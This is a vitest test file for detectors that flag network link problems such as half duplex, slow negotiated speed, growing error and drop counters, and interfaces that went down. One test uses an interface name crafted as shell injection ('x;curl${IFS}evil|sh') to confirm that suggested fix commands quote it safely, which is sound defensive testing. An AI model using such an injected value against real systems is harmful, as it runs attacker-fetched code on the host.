import { describe, expect, test } from "vitest";
import { detectLinkDown } from "./link-down";
import { detectLinkDuplex } from "./link-duplex";
import { detectLinkErrors } from "./link-errors";
import { detectLinkSpeed } from "./link-speed";
import { host, input, mac, nic, summary } from "./test-builders";

const lan = (id: number, o = {}, name = "eth0") => nic(name, mac(id), [`10.9.1.${10 + id}/24`], o);

describe("half duplex", () => {
  test.each([
    { name: "an up link at half duplex", nics: [lan(1, { duplex: "half", speedMbps: 100 })], expected: [["link-duplex", "warning", "link-duplex:1:eth0"]] },
    { name: "benign: full duplex", nics: [lan(1)], expected: [] },
    { name: "benign: a down port reports half duplex, and virtual NICs report none", nics: [lan(1, { duplex: "half", state: "down" }), lan(2, { duplex: null }, "eth1")], expected: [] },
    { name: "edge: half duplex with the speed unknown", nics: [lan(1, { duplex: "half", speedMbps: null })], expected: [["link-duplex", "warning", "link-duplex:1:eth0"]] },
  ])("$name", ({ nics, expected }) => {
    expect(summary(detectLinkDuplex(input([host(1, nics)])))).toEqual(expected);
  });
});

describe("link slower than the others on its subnet", () => {
  const at = (id: number, speedMbps: number, driver = "e1000e") => host(id, [lan(id, { speedMbps, driver })]);
  test.each([
    { name: "100 Mbit/s among gigabit links (a bad cable)", hosts: [at(1, 1000), at(2, 1000), at(3, 100, "r8169")], expected: [["link-speed", "warning", "link-speed:3:eth0"]] },
    { name: "a 2.5G NIC negotiated at 1G next to the same NIC at 2.5G", hosts: [at(1, 2500, "igc"), at(2, 1000, "igc"), at(3, 1000, "e1000e")], expected: [["link-speed", "warning", "link-speed:2:eth0"]] },
    { name: "benign: a 1G desktop among 10G servers with other NICs", hosts: [at(1, 10000, "ixgbe"), at(2, 10000, "ixgbe"), at(3, 1000, "e1000e")], expected: [] },
    { name: "benign: virtual NICs that report no speed, and a faster host", hosts: [at(1, 1000), host(2, [lan(2, { speedMbps: null, driver: "virtio_net" })]), at(3, 10000, "ixgbe")], expected: [] },
    { name: "edge: alone on its subnet", hosts: [at(1, 100)], expected: [] },
  ])("$name", ({ hosts, expected }) => {
    expect(summary(detectLinkSpeed(input(hosts)))).toEqual(expected);
  });
});

describe("errors and drops that grew since the previous snapshot", () => {
  const withCounters = (before: object, now: object) => host(1, [lan(1, now)], { previous: { interfaces: [lan(1, before)] } });
  test.each([
    { name: "CRC errors growing", h: withCounters({ rxErrors: 10 }, { rxErrors: 510 }), expected: [["link-errors", "warning", "link-errors:1:eth0"]] },
    {
      name: "RX drops that are a real share of the traffic",
      h: withCounters({ rxDropped: 0, rxPackets: 1000 }, { rxDropped: 500, rxPackets: 51000 }),
      expected: [["link-errors", "warning", "link-errors:1:eth0"]],
    },
    { name: "benign: errors from long ago that did not grow", h: withCounters({ rxErrors: 9000 }, { rxErrors: 9000 }), expected: [] },
    {
      name: "benign: a few drops among millions of packets",
      h: withCounters({ rxDropped: 0, rxPackets: 0 }, { rxDropped: 150, rxPackets: 5_000_000 }),
      expected: [],
    },
    { name: "edge: counters reset by a reboot", h: withCounters({ rxErrors: 5000 }, { rxErrors: 3 }), expected: [] },
    { name: "edge: no previous snapshot", h: host(1, [lan(1, { rxErrors: 5000 })]), expected: [] },
  ])("$name", ({ h, expected }) => {
    expect(summary(detectLinkErrors(input([h])))).toEqual(expected);
  });

  test("shows the growth and the rate per minute", () => {
    const [f] = detectLinkErrors(input([host(1, [lan(1, { rxErrors: 510 })], { previous: { interfaces: [lan(1, { rxErrors: 10 })] } })]));
    expect(f?.title).toBe("h1 eth0: 500 errors (100/min)");
    expect(f?.evidence[0]?.fields).toMatchObject({ rxErrors: 500, minutes: 5, errorsPerMinute: 100 });
  });
});

describe("interface down that was up", () => {
  test.each([
    { name: "down now, up before", h: host(1, [lan(1, { state: "down" })], { lastUpAt: { eth0: "2026-03-01T11:50:00.000Z" } }), expected: [["link-down", "warning", "link-down:1:eth0"]] },
    { name: "benign: an unused port that was never up", h: host(1, [lan(1), lan(1, { state: "down" }, "eth1")]), expected: [] },
    {
      name: "benign: a Docker bridge without containers goes down",
      h: host(1, [lan(1), nic("br-0123456789ab", mac(9), ["172.18.0.1/16"], { kind: "bridge", state: "down" })], { lastUpAt: { "br-0123456789ab": "2026-03-01T11:00:00.000Z" } }),
      expected: [],
    },
    { name: "edge: state unknown is not down", h: host(1, [lan(1, { state: "unknown" })], { lastUpAt: { eth0: "2026-03-01T11:50:00.000Z" } }), expected: [] },
  ])("$name", ({ h, expected }) => {
    expect(summary(detectLinkDown(input([h])))).toEqual(expected);
  });
});

describe("fix commands with a name the host chose", () => {
  test("an interface named like shell code is pasted as one quoted word", () => {
    const name = "x;curl${IFS}evil|sh";
    const h = host(1, [lan(1), nic(name, mac(7), ["10.0.0.7/24"], { state: "down" })], { lastUpAt: { [name]: "2026-03-01T11:50:00.000Z" } });
    const [f] = detectLinkDown(input([h]));
    expect(f?.fix).toContain("`ip link set dev 'x;curl${IFS}evil|sh' up`");
    expect(f?.fix).not.toContain(`dev ${name} up`);
  });
});

describe("link speed and duplex from the NIC's own modes (ethtool)", () => {
  const FAST = ["10baseT/Half", "10baseT/Full", "100baseT/Half", "100baseT/Full", "1000baseT/Full", "2500baseT/Full"];
  const GIG = ["10baseT/Half", "10baseT/Full", "100baseT/Half", "100baseT/Full", "1000baseT/Full"];
  const modes = (advertised: string[], partner: string[] | null, autoneg: boolean | null = true) => ({ linkModes: { supported: advertised, advertised, partner, autoneg } });

  test("a lone 1G host at 100 Mbit/s while both ends advertise gigabit: a warning with both lists, no look-alike needed", () => {
    const [f] = detectLinkSpeed(input([host(1, [lan(1, { speedMbps: 100, ...modes(GIG, GIG) })])]));
    expect(f).toMatchObject({ kind: "link-speed", severity: "warning", key: "link-speed:1:eth0" });
    expect(f!.title).toBe("h1 eth0 links at 100 Mbit/s although both ends advertise 1 Gbit/s");
    expect(f!.evidence[0]!.fields).toMatchObject({ advertised: GIG.join(" "), partnerAdvertises: GIG.join(" "), speedMbps: 100 });
  });

  test("a 2.5G NIC on a port that offers 1G: an info, the switch holds it back", () => {
    const [f] = detectLinkSpeed(input([host(1, [lan(1, { speedMbps: 1000, driver: "igc", ...modes(FAST, GIG) })])]));
    expect(f).toMatchObject({ severity: "info", title: "h1 eth0 could run at 2.5 Gbit/s, its link partner offers at most 1 Gbit/s" });
  });

  test("a 2.5G NIC at 1G although the partner offers 2.5G: a warning (downshift over a bad cable)", () => {
    expect(summary(detectLinkSpeed(input([host(1, [lan(1, { speedMbps: 1000, driver: "igc", ...modes(FAST, FAST) })])])))).toEqual([["link-speed", "warning", "link-speed:1:eth0"]]);
  });

  test("at the best common mode: no warning, and the subnet heuristic does not overrule the NIC's word", () => {
    // h3 at 100 among gigabit hosts would be a heuristic warning, but its partner only offers 100: an info
    const hundred = ["10baseT/Half", "10baseT/Full", "100baseT/Half", "100baseT/Full"];
    const hosts = [host(1, [lan(1, { speedMbps: 1000, ...modes(GIG, GIG) })]), host(2, [lan(2, { speedMbps: 1000 })]), host(3, [lan(3, { speedMbps: 100, ...modes(GIG, hundred) })])];
    expect(summary(detectLinkSpeed(input(hosts)))).toEqual([["link-speed", "info", "link-speed:3:eth0"]]);
    expect(detectLinkSpeed(input([host(1, [lan(1, { speedMbps: 1000, ...modes(GIG, GIG) })])]))).toEqual([]);
  });

  test("edge: the partner's list unknown: the heuristic decides as before", () => {
    const hosts = [host(1, [lan(1, { speedMbps: 1000 })]), host(2, [lan(2, { speedMbps: 1000 })]), host(3, [lan(3, { speedMbps: 100, driver: "r8169", ...modes(GIG, null) })])];
    expect(summary(detectLinkSpeed(input(hosts)))).toEqual([["link-speed", "warning", "link-speed:3:eth0"]]);
  });

  test("half duplex where both ends advertise full: critical; autoneg off on this end is said", () => {
    const [f] = detectLinkDuplex(input([host(1, [lan(1, { duplex: "half", speedMbps: 100, ...modes(GIG, GIG, false) })])]));
    expect(f).toMatchObject({ severity: "critical", key: "link-duplex:1:eth0" });
    expect(f!.explanation).toContain("negotiated half duplex at 100 Mbit/s, although both it and its link partner advertise full duplex, with autonegotiation off on this end");
    // a partner that only offers half duplex: still the warning
    const half = ["10baseT/Half", "100baseT/Half"];
    expect(detectLinkDuplex(input([host(1, [lan(1, { duplex: "half", speedMbps: 100, ...modes(GIG, half) })])]))[0]?.severity).toBe("warning");
  });
});
